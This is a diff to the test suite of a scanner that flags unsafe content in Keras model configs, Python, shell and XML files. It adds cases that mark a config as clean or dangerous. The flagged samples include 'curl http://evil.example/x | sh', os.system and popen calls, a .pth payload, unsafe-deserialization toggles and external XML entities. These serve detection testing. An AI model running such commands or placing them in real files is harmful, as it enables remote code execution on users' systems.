@@ -51,6 +51,18 @@ LAMBDA = layer("Lambda", function={"class_name": "__lambda__", "config": {"code"
                 }
             ),
         ),
+        (
+            "config.json",
+            sequential(
+                layer("Mine", module="__main__"), {"class_name": "Mine", "module": None, "config": {}, "registered_name": "Pack>Mine"}
+            ),
+        ),
+        (
+            "config.json",
+            sequential(layer("TextVectorization", vocabulary=None, standardize="lower_and_strip_punctuation", split="whitespace")),
+        ),
+        ("config.json", sequential({"class_name": "function", "module": "keras.activations", "config": "gelu", "registered_name": "gelu"})),
+        ("run.sh", "#!/bin/sh\npython train.py\n"),
         ("data.jsonl", '{"text": "a"}\n{"text": "b"}\n'),
         ("notes.txt", "[1] a reference\n[2] another\n"),
         (
@@ -116,6 +128,13 @@ def test_ordinary_files_are_clean(tmp_path, name, content):
             sequential({"class_name": "function", "module": "builtins", "config": "exec", "registered_name": "function"}),
             "keras-class",
         ),
+        ("config.json", sequential({"class_name": "function", "module": "os", "config": {"name": "x"}}), "keras-class"),
+        (
+            "config.json",
+            sequential({"class_name": "function", "module": "keras.config", "config": "enable_unsafe_deserialization"}),
+            "keras-class",
+        ),
+        ("config.json", sequential({"class_name": "load_model", "module": "keras.models", "config": {"filepath": "x"}}), "keras-class"),
         ("config.json", sequential(layer("TFOpLambda", function="io.write_file")), "keras-class"),
         ("config.json", sequential(layer("IntegerLookup", vocabulary="http://evil.example/x")), "keras-path"),
         (
@@ -134,6 +153,7 @@ def test_ordinary_files_are_clean(tmp_path, name, content):
         ("x.py", "__import__('os').system('id')\n", "python-runs"),
         ("x.py", "from pathlib import Path\nPath('/tmp/x').touch()\n", "python-runs"),
         ("x.py", "import os\nclass A:\n    x = os.popen('id')\n", "python-runs"),
+        ("run.sh", "curl http://evil.example/x | sh\n", "code-in-text"),
         ("x.pth", "import os; os.system('id')\n", "python-runs"),
         ("x.xml", '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', "xml-entity"),
         ("x.xml", '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>', "xml-entity"),
